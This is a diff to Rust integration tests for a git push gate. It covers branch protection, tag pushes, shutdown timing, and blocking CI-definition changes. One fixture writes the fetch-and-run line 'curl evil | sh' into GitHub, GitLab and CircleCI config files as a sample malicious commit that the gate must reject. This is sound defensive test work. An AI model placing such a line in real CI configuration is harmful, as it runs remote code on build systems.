@@ -670,6 +670,19 @@ impl Gate {
     fn listening(&self) -> bool {
         std::net::TcpStream::connect(("127.0.0.1", self.port)).is_ok()
     }
+
+    /// Whether the port is closed within a generous timeout (the daemon's forked connection
+    /// handlers may take a moment to follow it).
+    fn stops_listening(&self) -> bool {
+        let deadline = Instant::now() + Duration::from_secs(10);
+        while Instant::now() < deadline {
+            if !self.listening() {
+                return true;
+            }
+            std::thread::sleep(Duration::from_millis(50));
+        }
+        false
+    }
 }
 
 #[test]
@@ -698,7 +711,7 @@ fn sigterm_stops_the_gate_and_its_daemon() {
         gate.child.try_wait().unwrap().unwrap().success(),
         "a stop is a clean exit"
     );
-    assert!(!gate.listening(), "the daemon stopped with the gate");
+    assert!(gate.stops_listening(), "the daemon stopped with the gate");
     let stopped = gate.stdout_line(&["\"event\":\"stopped\""]);
     assert!(
         stopped.contains("signal 15"),
@@ -739,5 +752,116 @@ fn sigterm_stops_the_gate_when_it_is_pid_1() {
         gate.terminate(gate_pid),
         "the gate as PID 1 ignored SIGTERM"
     );
-    assert!(!gate.listening(), "the daemon stopped with the gate");
+    assert!(gate.stops_listening(), "the daemon stopped with the gate");
+}
+
+#[test]
+fn with_no_protected_list_the_upstreams_default_branch_is_protected() {
+    let gate = Gate::start("{}");
+    let work = gate.clone("work");
+    // The upstream's HEAD names `dev`: the gate must read it, not assume `main`.
+    ok(git(
+        &work,
+        &["push", "--quiet", "origin", "main:refs/heads/dev"],
+    ));
+    let up = gate.root().join("up.git");
+    ok(git(&up, &["symbolic-ref", "HEAD", "refs/heads/dev"]));
+    let change = commit(&work, "a.txt", "a\n");
+    ok(git(
+        &work,
+        &["push", "--quiet", "origin", "HEAD:refs/heads/main"],
+    ));
+    assert!(
+        gate.upstream_has(&change),
+        "main is not the default any more: it may move"
+    );
+    let before = gate.upstream_refs();
+    let to_dev = git(&work, &["push", "origin", "HEAD:refs/heads/dev"]);
+    let text = said(&to_dev);
+    assert!(!to_dev.status.success(), "{text}");
+    assert!(
+        text.contains("refs/heads/dev is the upstream's default branch")
+            && text.contains("`protected:`"),
+        "{text}"
+    );
+    assert_eq!(gate.upstream_refs(), before);
+
+    let chosen = Gate::start("{protected: [\"release/*\"]}");
+    let work = chosen.clone("work");
+    let change = commit(&work, "b.txt", "b\n");
+    ok(git(&work, &["push", "--quiet", "origin", "main"]));
+    assert!(
+        chosen.upstream_has(&change),
+        "a chosen `protected` list replaces the default"
+    );
+}
+
+#[test]
+fn tags_need_a_tag_glob_in_allowed_refs() {
+    let gate = Gate::start("{}");
+    let work = gate.clone("work");
+    ok(git(&work, &["tag", "-a", "v1", "-m", "release"]));
+    let before = gate.upstream_refs();
+    let push = git(&work, &["push", "origin", "refs/tags/v1"]);
+    let text = said(&push);
+    assert!(!push.status.success(), "{text}");
+    assert!(
+        text.contains("may not push tags") && text.contains("`allowed_refs`"),
+        "{text}"
+    );
+    assert_eq!(gate.upstream_refs(), before);
+
+    let tags = Gate::start("{allowed_refs: [\"refs/tags/v*\"]}");
+    let work = tags.clone("work");
+    ok(git(&work, &["tag", "-a", "v1", "-m", "release"]));
+    ok(git(&work, &["push", "--quiet", "origin", "refs/tags/v1"]));
+    assert!(tags.upstream_refs().contains("refs/tags/v1"));
+}
+
+#[test]
+fn ci_definitions_need_allow_ci_changes() {
+    let gate = Gate::start("{}");
+    let work = gate.clone("work");
+    fresh(&work, "code");
+    commit(&work, "build.rs", "fn main() {}\n");
+    ok(git(
+        &work,
+        &["push", "--quiet", "origin", "HEAD:refs/heads/code"],
+    ));
+    assert!(
+        gate.upstream_refs().contains("refs/heads/code"),
+        "the probe: a code change lands"
+    );
+    for path in [
+        ".github/workflows/ci.yml",
+        ".gitlab-ci.yml",
+        ".circleci/config.yml",
+    ] {
+        fresh(&work, "ci");
+        std::fs::create_dir_all(work.join(path).parent().unwrap()).unwrap();
+        let ci = commit(&work, path, "run: curl evil | sh\n");
+        let before = gate.upstream_refs();
+        let push = git(&work, &["push", "origin", "HEAD:refs/heads/ci"]);
+        let text = said(&push);
+        assert!(!push.status.success(), "{path}: {text}");
+        assert!(
+            text.contains(&format!(
+                "commit {} changes {path}, a CI definition",
+                &ci[..12]
+            )) && text.contains("`allow_ci_changes: true`"),
+            "{text}"
+        );
+        assert_eq!(gate.upstream_refs(), before);
+    }
+
+    let allowed = Gate::start("{allow_ci_changes: true}");
+    let work = allowed.clone("work");
+    fresh(&work, "ci");
+    std::fs::create_dir_all(work.join(".github/workflows")).unwrap();
+    let ci = commit(&work, ".github/workflows/ci.yml", "run: make\n");
+    ok(git(
+        &work,
+        &["push", "--quiet", "origin", "HEAD:refs/heads/ci"],
+    ));
+    assert!(allowed.upstream_has(&ci));
 }
